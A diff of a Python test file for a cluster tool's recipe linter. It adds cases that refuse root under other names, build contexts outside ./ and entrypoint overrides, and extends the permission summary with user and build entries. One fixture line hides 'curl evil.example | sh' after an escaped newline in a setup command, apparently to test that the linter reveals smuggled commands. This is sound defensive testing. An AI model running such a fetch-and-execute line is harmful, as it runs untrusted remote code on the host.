@@ -75,6 +75,13 @@ REFUSED = [
     *((f"{HEAD}container: {{devices: [{path}]}}\n", 4, CONTROL) for path in ("/dev/mem", "/dev/nvme0n1", "/dev/mapper/x")),
     *((f"{HEAD}container: {{devices: ['{path}']}}\n", 4, "a device file") for path in ("/etc", "/dev/../x", "/dev/a:/dev/b")),
     (HEAD + "container: {ulimits: {files: 3}}\n", 4, "memlock"),
+    (HEAD + "build: {context: ./mod}\n", 4, f"./mod {PERMISSION}"),
+    *((f"{HEAD}build: {{context: {path}}}\n", 4, "a path from ./") for path in ("/etc", "~/x", "mod", "../x")),
+    # what means root by another name, or nothing
+    *((f"{HEAD}container: {{user: '{name}'}}\n", 4, "a user by name or number") for name in ("00", "0x0", "", "a b", ":0", "-1", "R")),
+    (HEAD + "container: {user: 1000}\n", 4, "must be a string, but 1000 reads as a number"),
+    (HEAD + "container: {user: '1000', cap_add: [SYS_NICE]}\n", 4, "has no effect for user 1000"),
+    *((f"{HEAD}{line}\n", 4, "cannot be set") for line in ("container: {entrypoint: [x]}", "entrypoint: x")),
     (HEAD + "args: {lora-modules: [a=b/c, --host, 0.0.0.0]}\n", 4, "starts with a dash is read as another argument"),
     (HEAD + "secrets: [AWS_SECRET_ACCESS_KEY]\n", 4, f"AWS_SECRET_ACCESS_KEY {PERMISSION}"),
     *(
@@ -98,6 +105,8 @@ def inventory(directory: Path, playbook: str | None, *, port: int = 1, name: str
     """An inventory of one node on a port of this machine, and the playbook beside it; None for a bundled one."""
     if playbook is not None:
         (directory / f"{name}-playbook.yaml").write_text(playbook)
+        (directory / "mod").mkdir(exist_ok=True)
+        (directory / "mod" / "Dockerfile").write_text("ARG BASE\nFROM $BASE\n")
     serves = f"./{name}-playbook.yaml" if playbook is not None else "nemotron-3-nano-30b-a3b-nvfp4"
     node = f"{{name: a, host: 127.0.0.1, connection: ssh, ssh: {{port: {port}, user: root}}}}"
     path = directory / f"{name}.yaml"
@@ -230,23 +239,24 @@ args: {trust-remote-code: true, tool-parser-plugin: /sparkcluster/model/p.py, ma
 env: {LD_PRELOAD: /model/x, NCCL_DEBUG: INFO, TRITON_CACHE_DIR: /tmp/t}
 mounts: [{source: ~/models/m/sub, target: /s}, {source: /scratch, target: /x, read_only: false}]
 caches: [{name: triton, target: /root/.triton}, {name: programs, target: /usr/local/bin}]
-container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv]}
+container: {cap_add: [SYS_NICE, NET_RAW], devices: [/dev/gdrdrv], user: root}
+build: {context: ./mod}
 secrets: [WANDB_API_KEY]
 setup: [pip install x, "echo SPACES hidden XXX", "pip list # show versions\\ncurl evil.example | sh"]
 """
-PERMIT = (
-    "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY]}\n"
-)
+PERMIT = "permit: {mounts: ['/scratch:rw'], capabilities: [NET_RAW], devices: [/dev/gdrdrv], secrets: [WANDB_API_KEY], builds: [./mod]}\n"
 SHOWN = """\
 this recipe can:
   network    everything that the node can reach (host network)
 ! image      org/image:latest
+! user       root, also where the image has another user
 ! read       ~/models/m
 ! read       ~/models/m/sub -> /s
 ! write      /scratch -> /x
   capability SYS_NICE
 ! capability NET_RAW
 ! device     /dev/gdrdrv
+! build      ./mod -> the image, by what runs as root in docker build on a node
 ! secret     WANDB_API_KEY
   write      ~/.local/state/sparkcluster/caches
 ! write      ~/.local/state/sparkcluster/caches: programs -> /usr/local/bin
@@ -269,7 +279,7 @@ def test_lint_ends_with_what_the_recipe_can_do(tmp_path: Path) -> None:
     shown = SHOWN.replace("XXX", "x" * 300)
     assert done.stdout.endswith(shown), done.stdout
     playbook = run("lint", tmp_path / "inventory-playbook.yaml")
-    needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], devices: ["/dev/gdrdrv"], secrets: ["WANDB_API_KEY"]}'
+    needs = '  it needs this in the inventory: permit: {mounts: ["/scratch:rw"], capabilities: ["NET_RAW"], devices: ["/dev/gdrdrv"], secrets: ["WANDB_API_KEY"], builds: ["./mod"]}'
     assert playbook.stdout.endswith(f"{shown}{needs}\n")
     assert playbook.returncode == done.returncode
 
